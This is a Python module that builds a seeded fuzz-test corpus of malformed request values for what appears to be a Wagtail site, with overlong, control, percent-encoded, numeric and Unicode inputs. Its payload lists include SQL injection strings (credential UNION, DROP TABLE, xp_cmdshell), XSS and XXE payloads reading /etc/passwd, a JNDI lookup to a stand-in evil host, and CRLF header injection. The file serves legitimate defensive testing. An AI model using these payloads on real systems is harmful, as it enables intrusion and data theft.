"""The malformed values the fuzz test sends: eleven kinds of hostile input, the same
number of each, built from a few atoms so that the corpus stays readable.

A value is either text (percent-encoded where it is placed) or ``raw``: already
percent-encoded bytes such as ``%ff`` that must reach the server undecoded, so a URL or
a form body carries invalid UTF-8 and broken escapes.
"""

import random
from dataclasses import dataclass
from itertools import chain, cycle
from urllib.parse import quote, quote_plus

SEED = 20261201
PER_KIND = 100


@dataclass(frozen=True)
class Hostile:
    kind: str
    text: str
    raw: bool = False

    def in_path(self) -> str:
        """As one path segment (a slash in the value stays inside the segment)."""
        return self.text if self.raw else quote(self.text, safe="")

    def in_query(self) -> str:
        """As a query-string or urlencoded-body value."""
        return self.text if self.raw else quote_plus(self.text)

    def __str__(self):
        text = self.text if len(self.text) <= 60 else f"{self.text[:40]}…({len(self.text)} chars)"
        return f"{self.kind}:{text!r}"


def _overlong():
    units = [
        *("a", "я", "ә", "ң", "0", "9", "-", "_", ".", "/", "%", "'", '"', "<", "&", " "),
        *("\u202e", "😀", "a\u0301", "ﷺ", "x/", "../", "ab-", "%00", "Ә1"),
    ]
    lengths = (101, 256, 1_001, 4_097)
    return [(unit * length)[:length] for unit in units for length in lengths]


def _control():
    codes = [*range(32), 127]
    values = [chr(code) for code in codes]
    values += [f"a{chr(code)}b" for code in codes]
    values += [f"{chr(code)}1" for code in codes]
    values += ["\r\nSet-Cookie: fuzz=1", "\x00" * 10, "a\x00" * 50, "\x1b[31mred", "\u0085"]
    values += ["\u2028", "\u2029", "\u200b", "\u200e", "\ufeff", "\ufffe", "\uffff", "\U0010ffff"]
    return values


def _raw():
    special = [
        *("%ff", "%", "%%", "%zz", "%2", "%u0041", "%00", "%c0%af", "%c0%ae%c0%ae", "%e2%82"),
        *("%ed%a0%80", "%f4%90%80%80", "%2e%2e", "%2e%2e%2f", "%252e", "%5c", "%0d%0a"),
        *("%ff%fe", "a%ffb", "%fe%ff%00", "%C0%80", "%e0%80%af", "%f8%88%80%80%80"),
    ]
    return special + [f"%{byte:02x}" for byte in range(0x80, 0x100)]


def _quotes():
    marks = ["'", '"', "`", "‘", "’", "“", "”", "«", "»", "„", "‹", "›", "＇", "＂"]
    shapes = [
        "{q}",
        "{q}{q}{q}",
        "a{q}",
        "{q}a",
        "a{q}b{q}c{q}",
        "{q}search{q} {q}",
        "title:{q}x",
        "{q}\\{q}",
    ]
    return [shape.format(q=mark) for mark in marks for shape in shapes]


def _sql():
    payloads = [
        *("' OR 1=1--", "' OR '1'='1", "1' AND SLEEP(5)--", "1; DROP TABLE wagtailcore_page;--"),
        *("' UNION SELECT username, password FROM auth_user--", "1 OR 1=1", "admin'--"),
        *("%' AND 1=0 UNION ALL SELECT NULL--", "') OR ('a'='a", "1)) OR ((1=1"),
        *("'; EXEC xp_cmdshell('dir');--", "1 AND (SELECT COUNT(*) FROM sqlite_master)>0"),
        *("1' WAITFOR DELAY '0:0:5'--", "' || pg_sleep(5) --", "\\'; SELECT 1; --", "$$;$$"),
        *("'/**/OR/**/1=1", "LIKE '%'", "_%", "%_%", "NULL", "\\x27", "char(39)", "0x27"),
        "' AND extractvalue(1,concat(0x7e,version()))--",
    ]
    return [prefix + payload for prefix in ("", "1", "kk", "x ") for payload in payloads]


def _regex_and_templates():
    atoms = [
        *(".*", "(", ")", "[", "]", "{", "}", "(?P<x>a)", "\\d+", "^$", "a{1,99999}"),
        *("(a+)+$", "(a|aa)+", "*", "+", "?", "|", "\\", "[^]", "(?i)", "\\N{DIGIT ONE}"),
        *("$1", "\\1", "(?=a)", "[[:alpha:]]", "a**", "[z-a]", "(?<!a)", "\\p{L}", "(?#"),
        *(".{0,}", "\\Z", "\\b", "a{,}", "**", "++", "??", "{{ 7*7 }}", "{% debug %}", "%s"),
        *("%(x)s", "%n%n%n", "{0}", "{0.__class__}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
        *("${jndi:ldap://evil.example/a}", "{}", "[]", "@{x}", "{{", "}}"),
    ]
    return [prefix + atom for prefix in ("", "x") for atom in atoms]


def _markup():
    atoms = [
        *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"),
        *("</textarea><script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x>"),
        *("<iframe src=javascript:alert(1)>", "javascript:alert(1)", "<!--", "-->", "]]>"),
        *("data:text/html,<script>alert(1)</script>", "<![CDATA[x]]>", '<?xml version="1.0"?>'),
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        *("&e;", "&lt;", "&#60;", "&#x3c;", "&amp;", "&", "&nbsp;", "<b>", "</", "<", ">"),
        *("<a href='//evil.example'>x</a>", "<style>*{}</style>", "<base href=//evil>"),
        *("<meta http-equiv=refresh content=0;url=//evil>", "<form action=//evil>", "＜script＞"),
        *("<input autofocus onfocus=alert(1)>", "<math><mi xlink:href=x>", "<x onclick=alert(1)>"),
        *("[url=javascript:alert(1)]x[/url]", "**bold**", "[x](javascript:alert(1))", "%3Cb%3E"),
    ]
    wrappers = ("{}", "Сәлем {}", "{} end", "a{}b")
    return [wrapper.format(atom) for wrapper in wrappers for atom in atoms]


def _numbers():
    values = [
        *("-1", "0", "-0", "00", "+1", "1.5", "1e9", "1e309", "-1e309", "NaN", "nan", "inf"),
        *("-inf", "Infinity", "0x1f", "0o7", "0b1", "1_000", " 1", "1 ", "1,5", "１２", "١٢"),
        *("٣", "²", "½", "Ⅻ", "٠", "߀", "2024-02-30", "0000-00-00", "9999-12-31", "-2024"),
        *("2024/13", "13", "32", "0001", "10000", "99999", "1899", "3000", "-0.0", "1e-309"),
        *("1e", "e1", "0e0", ".5", "5.", "1/2", "0.1e-7", "08", "09", "1__0"),
    ]
    for digits in (10, 15, 19, 20, 30, 50, 100, 309):
        values += ["9" * digits, "-" + "9" * digits, "1" + "0" * digits]
    for power in (15, 31, 32, 53, 63, 64, 128):
        values += [str(2**power), str(2**power - 1), str(-(2**power)), str(-(2**power) - 1)]
    return values


def _paths_and_unicode():
    atoms = [
        *("../", "..", ".", "..\\", "....//", "/etc/passwd", "~", "~root", "C:\\Windows"),
        *("\\\\server\\share", "//evil.example", "http://evil.example", "https:evil.example"),
        *("file:///etc/passwd", "?", "#", "&", "=", "+", ";", ",", ":", "@", "!", "$", "*"),
        *("ﬁ", "ǅ", "İ", "ı", "ß", "ẞ", "\u0301", "a\u0301", "\u202eevil", "😀", "𝕏", "🇰🇿"),
        *("ә", "Ә", "ё", "Ё", "\uff0e\uff0e\uff0f", "\u2215", "\u2044", "ＡＢＣ", "𝟘𝟙", "Ա"),
        *("中文", "العربية", "עברית", "ภาษาไทย", "\u3164", "\u115f", "aә", "Ωmega"),
    ]
    return [prefix + atom for prefix in ("", "x") for atom in atoms]


def _structured():
    values = [
        *("{}", "[]", "null", "true", "false", "undefined", "None", "__proto__", "constructor"),
        *('{"a":', "[1,", "a=b&c=d", "a[]=1", "a[b]=1", "a.b=1", "AAAA====", "=", "=="),
        *("a@b", "@", "a@", "@b", "a@b@c", "a@[127.0.0.1]", "mailto:x", "127.0.0.1", "::1"),
        *("xx", "kk-KZ", "en_US", "zh-Hans", "all", "-", "--", "---", "0.0.0.1", "localhost"),
        *("pages", "wagtailcore.Page", "auth.User", "news.NewsPage", "id", "-id", "?id"),
        *("title,-title", "*", "-*", "_", "__all__", "pk", "password", "email", "api"),
    ]
    values += ["a" * 64 + "@" + "b" * 250 + ".kz", "x@" + "y." * 100 + "kz"]
    values += [f"{'a' * n}@example.com" for n in (1, 64, 65, 300)]
    values += [f"field{n}={'x' * n}" for n in (0, 1, 2, 3, 10, 100)]
    values += [f"{word},{word}" for word in ("title", "id", "slug", "type", "body", "x")]
    values += [f"{word}__in" for word in ("title", "id", "slug", "locale", "type", "x")]
    values += [f"-{word}" for word in ("title", "slug", "random", "x", "created_at")]
    values += [f"{word}:" for word in ("title", "id", "x", "tag", "year")]
    values += [f"news.{name}" for name in ("BlogComment", "x", "", "NewsIndexPage", "Tag")]
    values += [f"{n}.{n}.{n}" for n in range(5)]
    values += ["[object Object]", "0,1,2", "1;2", "a|b", "a b c", "x=y", "?x=y", "&x=y", "id=1"]
    return values


def _whitespace():
    spaces = [
        *(" ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u2000", "\u2001", "\u2002", "\u2003"),
        *("\u2007", "\u2009", "\u200a", "\u205f", "\u180e", "\u2028", "\u202f", "\u1680"),
        *("\x0b", "\x0c", "\u2004", "\u2005"),
    ]
    shapes = ("{s}", "{s}{s}", "{s}x{s}", "x{s}y", "{s}" * 40)
    return [""] + [shape.format(s=space) for space in spaces for shape in shapes]


KINDS = {
    "overlong": (_overlong, False),
    "control": (_control, False),
    "percent": (_raw, True),
    "quotes": (_quotes, False),
    "sql": (_sql, False),
    "regex": (_regex_and_templates, False),
    "markup": (_markup, False),
    "numbers": (_numbers, False),
    "paths": (_paths_and_unicode, False),
    "structured": (_structured, False),
    "whitespace": (_whitespace, False),
}


def build_corpus() -> dict[str, list[Hostile]]:
    """The first PER_KIND distinct values each kind generates (the generators list the
    essential ones first), none shared between kinds, in a fixed shuffled order."""
    shuffler = random.Random(SEED)
    seen: set[tuple[str, bool]] = set()
    corpus = {}
    for kind, (generate, raw) in KINDS.items():
        values = []
        for text in generate():
            if (text, raw) not in seen:
                seen.add((text, raw))
                values.append(Hostile(kind, text, raw))
        values = values[:PER_KIND]
        shuffler.shuffle(values)
        corpus[kind] = values
    return corpus


class Dealer:
    """Hands out corpus values in turn, one kind after another, so that any few
    consecutive values are of different kinds and every value is used before any is
    used twice. Remembers what it dealt, for the test's coverage claim."""

    def __init__(self, corpus: dict[str, list[Hostile]]):
        rounds = zip(*corpus.values(), strict=True)
        self._sequence = list(chain.from_iterable(rounds))
        self._cycle = cycle(self._sequence)
        self.dealt: set[Hostile] = set()

    def __len__(self):
        return len(self._sequence)

    def deal(self, count: int) -> list[Hostile]:
        values = [next(self._cycle) for _ in range(count)]
        self.dealt.update(values)
        return values

    def kinds_dealt(self) -> set[str]:
        return {value.kind for value in self.dealt}
